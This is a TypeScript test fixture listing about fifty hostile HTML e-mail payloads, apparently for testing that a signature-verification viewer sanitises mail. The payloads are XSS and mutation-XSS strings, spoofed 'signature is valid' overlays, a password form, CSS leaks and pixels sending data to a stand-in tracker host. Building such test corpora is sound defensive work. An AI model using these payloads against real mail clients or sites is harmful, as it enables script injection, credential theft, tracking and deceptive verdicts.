/** A mail that tries one trick on whoever shows it. */
export interface HostileHtml {
  readonly trick: string
  readonly html: string
}

/** Where every trick would have the reader's computer ask; nothing may ever be asked there. */
export const trackerHost = 'tracker.example'
const tracker = `https://${trackerHost}`

/** The headline of the page, as a forger would copy it. */
export const fakeHeadline = 'The signature is valid.'
const fake = `<div class="answer tone-good"><p class="verdict-word">Valid</p><h1 id="verdict">${fakeHeadline}</h1></div>`
const run = "document.title='taken'"

const tricks: Readonly<Record<string, string>> = {
  'overlay by fixed position': `<div style="position:fixed;inset:0;z-index:2147483647;background:#fff">${fake}</div>`,
  'overlay by absolute position and negative margin': `<div style="position:absolute;top:-900px;left:-900px;margin:-900px;width:9000px;height:9000px">${fake}</div>`,
  'end of the frame in the text': `</body></html></iframe></section></main>${fake}`,
  'end of the attribute that holds the frame': `"></iframe>${fake}<iframe srcdoc="`,
  'style element over the page': `<style>*{display:none!important}body::before{content:"${fakeHeadline}";position:fixed;inset:0}</style>`,
  'style that escapes by import': `<style>@import url(${tracker}/a.css);</style><p>text</p>`,
  'style with an escaped function name': `<p style="background:\\75rl(${tracker}/b.png)">text</p>`,
  'font face from afar': `<style>@font-face{font-family:x;src:url(${tracker}/f.woff)}p{font-family:x}</style><p>text</p>`,
  'attribute selector that leaks': `<style>input[value^="a"]{background:url(${tracker}/leak)}</style><input value="a">`,
  'stylesheet link': `<link rel="stylesheet" href="${tracker}/c.css"><link rel="preload" as="image" href="${tracker}/p"><link rel="dns-prefetch" href="//${trackerHost}">`,
  'form to a stranger': `<form action="${tracker}/login" method="post" id="f"><input name="password" type="password" autofocus><button formaction="${tracker}/b">Sign in</button></form><input form="f">`,
  'image map and input image': `<img src="${tracker}/m.png" usemap="#m"><map name="m"><area href="${tracker}/area" shape="default"></map><input type="image" src="${tracker}/i.png">`,
  'meta refresh': `<meta http-equiv="refresh" content="0;url=${tracker}/refresh"><meta http-equiv="Set-Cookie" content="a=b">`,
  'meta that would loosen the policy': `<meta http-equiv="Content-Security-Policy" content="default-src * 'unsafe-inline'"><img src="${tracker}/csp.png">`,
  'base for every link': `<base href="${tracker}/" target="_top"><a href="login">Sign in</a>`,
  'link to the top': `<a href="${tracker}/top" target="_top" ping="${tracker}/ping" download>${fakeHeadline}</a>`,
  'javascript link': `<a href="javascript:${run}">click</a><a href="java&#10;script:${run}">click</a><a href="&#106;avascript:${run}">click</a>`,
  'data link': `<a href="data:text/html,<script>${run}</script>">click</a><a href="blob:x">click</a><a href="file://${trackerHost}/share">click</a>`,
  script: `<script>${run}</script><script src="${tracker}/s.js"></script><script type="module">import "${tracker}/m.js"</script>`,
  'event handlers': `<img src=x onerror="${run}"><body onload="${run}"><p onclick="${run}" onpointerenter="${run}">text</p><details ontoggle="${run}" open>x</details>`,
  'svg with script and use': `<svg onload="${run}"><script>${run}</script><use href="${tracker}/u.svg#a"/><image href="${tracker}/i.svg"/><a href="${tracker}"><text y="20">${fakeHeadline}</text></a></svg>`,
  'svg animation of a link': `<svg><a><animate attributeName="href" values="javascript:${run}"/><text>click</text></a><set attributeName="href" to="${tracker}"/></svg>`,
  'svg foreign object': `<svg><foreignObject width="100%" height="100%">${fake}</foreignObject></svg>`,
  'inner frames': `<iframe src="${tracker}/frame"></iframe><iframe srcdoc="<script>${run}</script>"></iframe><frameset><frame src="${tracker}/f"></frameset><portal src="${tracker}"></portal>`,
  'object, embed and applet': `<object data="${tracker}/o.swf"><param name="movie" value="${tracker}/p"></object><embed src="${tracker}/e"><applet code="${tracker}/a"></applet>`,
  'audio, video and track': `<video autoplay src="${tracker}/v" poster="${tracker}/poster.png"><source src="${tracker}/s"><track src="${tracker}/t.vtt" default></video><audio autoplay src="${tracker}/a"></audio>`,
  'pictures of every kind': `<img src="${tracker}/1.png"><img srcset="${tracker}/2.png 1x"><picture><source srcset="${tracker}/3.png"><img loading="eager" src="${tracker}/4.png"></picture><table background="${tracker}/5.png"><tr><td background="${tracker}/6.png">x</table>`,
  'pixel without a scheme': `<img src="//${trackerHost}/p.gif" width="1" height="1"><img src="\\\\${trackerHost}\\p.gif"><img src="cid:logo@mail">`,
  'picture as data': `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='${tracker}/d.png'/></svg>">`,
  'fake headline': `${fake}<h1>${fakeHeadline}</h1><h1>Checked in this browser; nothing left this computer.</h1>`,
  'fake headline of huge letters': `<font size="7" color="#0b6a0b"><big><big><big><h1 style="font-size:400px">${fakeHeadline}</h1></big></big></big></font>`,
  'letters that change their order': `<p>\u202e.dilav si erutangis ehT\u202c &#x202e;gpj.exe&#8297; <bdo dir="rtl">dilav</bdo> \u2067isolate</p>`,
  'letters that cannot be seen': `<p>va\u200b\u2060\ufefflid\u00ad \u0000\u0007\u001b[31mred\ud800</p>`,
  'letters that stack': `<p>Z${'\u0335\u0336\u0334'.repeat(200)}</p>`,
  'animation and marquee': `<marquee behavior="alternate" width="9999">${fakeHeadline}</marquee><blink>${fakeHeadline}</blink><style>@keyframes a{to{transform:scale(99)}}p{animation:a 1s infinite}</style><p>text</p>`,
  'dialog and popover': `<dialog open>${fake}</dialog><div popover="auto" id="p">${fake}</div><button popovertarget="p" autofocus>open</button>`,
  'identifiers of the page': `<p id="verdict">${fakeHeadline}</p><a name="main"></a><form name="document"><input name="cookie"></form><img name="getElementById">`,
  'template and slot': `<template shadowrootmode="open"><style>:host{position:fixed}</style><slot></slot><img src="${tracker}/t"></template><p slot="x">text</p>`,
  'script that is off': `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
  'comment that ends early': `<!--><img src=x onerror="${run}">--><!-- --!><img src="${tracker}/c"><!--->text<!-- <!-- --> -->`,
  'conditional comment': `<!--[if gte mso 9]><xml><o:OfficeDocumentSettings/></xml><![endif]--><![if !mso]><p>text</p><![endif]>`,
  'CDATA in and out of SVG': `<![CDATA[<img src="${tracker}/cd" onerror="${run}">]]><svg><![CDATA[><img src=x onerror="${run}">]]></svg>`,
  'mutation by math and style': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  'mutation by form and math': `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${run}">`,
  'mutation by svg and title': `<svg></p><style><a id="</style><img src=1 onerror=${run}>"><svg><title><a title="</title><img src=x onerror=${run}>">`,
  'mutation by paragraph in svg': `<svg><p><style><g title="</style><img src=x onerror=${run}>">`,
  'mutation by select and table': `<select><template><style><img src=x onerror=${run}></style></template></select><table><select><img src="${tracker}/x"></table>`,
  'end of title and textarea': `<title></title><img src=x onerror="${run}"></title><textarea></textarea><script>${run}</script></textarea><xmp></xmp><script>${run}</script>`,
  plaintext: `<p>before</p><plaintext></body><script>${run}</script>`,
  'tags that are none': `<<script>${run}</script><img/src=x/onerror=${run}><a\u000chref=javascript:${run}>x</a><p/onclick=${run}>x</p x="><img src=${tracker}/q>">`,
  'attributes that swallow': `<p title="a>b" title='<img src="${tracker}/e">'>text</p><p title=\`x\`onclick=${run}>text</p><p "=">text`,
  'elements by the thousand': `${'<div><b><table><tr><td>'.repeat(2000)}text`,
  'a line without end': `<pre>${'W'.repeat(20_000)}</pre><p>${'valid'.repeat(5000)}</p>`,
  'names with a meaning': `<p><__proto__>a</__proto__><constructor>b</constructor><toString>c</toString></p>`,
  'XML and processing instructions': `<?xml-stylesheet href="${tracker}/x.css"?><!DOCTYPE html [<!ENTITY x SYSTEM "${tracker}/dtd">]>&x;<xml:namespace ns="x"/><html xmlns="http://www.w3.org/1999/xhtml" manifest="${tracker}/m">`,
  'prefetch by speculation': `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${tracker}/spec"]}]}</script><link rel="prerender" href="${tracker}/pre"><link rel="modulepreload" href="${tracker}/mp">`,
}

/** The corpus of hostile mails: each trick by itself, and all of them in one mail. */
export const hostileHtml: readonly HostileHtml[] = [
  ...Object.entries(tricks).map(([trick, html]) => ({ trick, html })),
  { trick: 'all of them together', html: Object.values(tricks).join('\n') },
]
